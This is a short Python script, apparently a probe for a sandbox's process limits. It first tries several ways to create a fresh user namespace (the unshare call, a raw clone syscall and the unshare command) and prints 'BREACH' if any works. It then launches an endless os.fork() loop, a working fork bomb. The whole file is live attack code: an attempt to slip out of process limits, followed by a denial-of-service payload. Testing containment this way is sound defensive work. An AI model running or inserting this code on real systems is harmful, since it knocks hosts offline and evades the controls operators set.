"""A fork bomb that first tries to get a fresh process limit from a user namespace of its own."""
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x10000000 | 0x20000000):
    if libc.unshare(flags) == 0:
        print('BREACH: a new user namespace')
    pid = libc.syscall(56, flags | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    if pid > 0:
        print('BREACH: clone made a new user namespace')
if subprocess.run(['/usr/bin/unshare', '--user', 'true'], stderr=subprocess.DEVNULL).returncode == 0:
    print('BREACH: the unshare command')
print('held', flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
